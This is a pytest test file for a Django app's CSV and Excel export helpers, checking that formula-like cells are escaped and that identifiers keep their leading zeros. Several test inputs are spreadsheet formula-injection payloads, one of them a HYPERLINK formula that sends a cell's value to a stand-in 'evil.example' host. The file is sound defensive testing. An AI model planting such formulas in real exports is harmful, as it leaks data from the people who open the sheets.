"""The spreadsheet and CSV writers: formulas neutralised, identifiers kept as text."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from magang.core.exports import escape_cell, iter_csv, write_csv, write_xlsx

NIK = "3216015705030001"
HEADERS = ["NIK", "Name", "Birth date", "Height", "Submitted at"]


def _xlsx_rows(data: bytes) -> list[tuple[object, ...]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return list(sheet.iter_rows(values_only=True))


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data[len(codecs.BOM_UTF8) :].decode("utf-8"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+62812", "'+62812"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ma'ruf", "Ma'ruf"),
        ("Budi = Santoso", "Budi = Santoso"),
        ("", ""),
        (-5, -5),
        (Decimal("50.5"), Decimal("50.5")),
        (None, None),
        (dt.date(2003, 5, 17), dt.date(2003, 5, 17)),
    ],
)
def test_it_escapes_only_text_that_a_spreadsheet_would_run(value, expected) -> None:
    assert escape_cell(value) == expected


def test_it_writes_a_nik_as_a_sixteen_digit_text_cell() -> None:
    data = write_xlsx([[NIK, "Budi", dt.date(2003, 5, 17), 165, None]], HEADERS, "Applications")

    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Applications"
    cell = sheet["A2"]
    assert cell.value == NIK
    assert isinstance(cell.value, str)
    assert len(cell.value) == 16
    assert cell.data_type == "s"
    assert cell.number_format == "@"
    assert sheet["C2"].value == dt.datetime(2003, 5, 17)
    assert sheet["D2"].value == 165


def test_it_keeps_leading_zeros_of_identifiers() -> None:
    data = write_xlsx([["0812345678", "x", None, None, None]], HEADERS, "Sheet")
    assert _xlsx_rows(data)[1][0] == "0812345678"


def test_it_escapes_formulas_in_xlsx() -> None:
    name = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    data = write_xlsx([[NIK, name, None, None, "@cmd"]], HEADERS, "Applications")

    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["B2"].data_type == "s"
    assert sheet["B2"].value == "'" + name
    assert sheet["E2"].value == "'@cmd"


def test_it_writes_the_header_row_first() -> None:
    data = write_xlsx([], HEADERS, "Applications")
    assert _xlsx_rows(data) == [tuple(HEADERS)]


def test_it_writes_aware_datetimes_as_local_time() -> None:
    moment = dt.datetime(2026, 3, 1, 1, 30, tzinfo=dt.UTC)
    local = timezone.localtime(moment).replace(tzinfo=None)

    rows = _xlsx_rows(write_xlsx([[NIK, "x", None, None, moment]], HEADERS, "S"))
    assert rows[1][4] == local

    csv_rows = _csv_rows(write_csv([[NIK, "x", None, None, moment]], HEADERS))
    assert csv_rows[1][4] == local.isoformat(sep=" ", timespec="seconds")


def test_it_drops_characters_xml_cannot_hold() -> None:
    rows = _xlsx_rows(write_xlsx([[NIK, "Bu\x00di\x07", None, None, None]], HEADERS, "S"))
    assert rows[1][1] == "Budi"


def test_it_cleans_a_sheet_title_excel_would_refuse() -> None:
    data = write_xlsx([], HEADERS, "Applications: 2026/Jawa Barat [all] and a long tail")
    title = load_workbook(io.BytesIO(data)).active.title
    assert len(title) <= 31
    assert not set("[]:*?/\\") & set(title)


def test_it_writes_csv_in_utf8_with_a_byte_order_mark() -> None:
    data = write_csv([[NIK, "Ma'ruf Ñoño 山田", dt.date(2003, 5, 17), 165, None]], HEADERS)

    rows = _csv_rows(data)
    assert rows[0] == HEADERS
    assert rows[1] == [NIK, "Ma'ruf Ñoño 山田", "2003-05-17", "165", ""]
    assert b"\r\n" in data


def test_it_escapes_formulas_in_csv_headers_and_cells() -> None:
    data = write_csv([["=1+1", "+x", "-2", "@y", "ok"]], ["=h", "b", "c", "d", "e"])

    rows = _csv_rows(data)
    assert rows[0][0] == "'=h"
    assert rows[1] == ["'=1+1", "'+x", "'-2", "'@y", "ok"]


def test_it_quotes_separators_and_line_breaks_in_csv() -> None:
    rows = _csv_rows(write_csv([["a,b", 'say "hi"', "two\nlines", None, None]], HEADERS))
    assert rows[1][:3] == ["a,b", 'say "hi"', "two\nlines"]


def test_it_streams_csv_in_chunks_with_one_header() -> None:
    chunks = list(iter_csv(([str(i), "x"] for i in range(1200)), ["n", "x"]))

    assert len(chunks) > 2
    rows = _csv_rows(b"".join(chunks))
    assert rows[0] == ["n", "x"]
    assert len(rows) == 1201
    assert rows[-1] == ["1199", "x"]
